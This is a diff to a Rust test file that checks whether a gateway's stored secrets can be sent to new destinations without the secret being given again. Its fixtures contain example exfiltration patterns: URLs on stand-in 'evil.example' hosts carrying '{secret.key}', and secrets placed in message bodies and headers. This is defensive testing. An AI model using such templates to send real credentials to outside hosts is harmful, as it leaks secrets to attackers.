@@ -123,7 +123,9 @@ async fn asked_again(s: &Services, id: ProviderId, patch: &Value) -> Vec<String>
         Ok(_) => Vec::new(),
         Err(Error::Invalid(faults)) => {
             assert!(faults.iter().all(|fault| fault.code == "secret_again"), "{patch}: {faults:?}");
-            faults.into_iter().map(|fault| fault.pointer).collect()
+            let mut pointers: Vec<_> = faults.into_iter().map(|fault| fault.pointer).collect();
+            pointers.sort();
+            pointers
         }
         Err(other) => panic!("{patch}: {other}"),
     }
@@ -177,7 +179,7 @@ on_both!(a_gateways_secrets_go_nowhere_else_unless_they_are_given_again, |db| as
         json!({"request": {"url": "https://gw.example.evil.example/send?key={secret.key}"}}),
         json!({"request": {"url": "https://gw.example:8443/send?key={secret.key}"}}),
         json!({"request": {"url": "http://localhost/send"}}),
-        json!({"poll": {"request": {"url": "https://evil.example/{id}"}, "records": "", "id": "/id", "status": "/s"}}),
+        json!({"poll": {"request": {"url": "https://evil.example/status", "body": {"msgid": "{id}"}}, "records": "", "id": "/id", "status": "/s"}}),
         // By the gateway to whoever gets the text.
         json!({"request": {"body": {"text": "{text} {secret.key}"}}}),
         json!({"request": {"headers": {"X-Note": "{secret.key}"}}}),
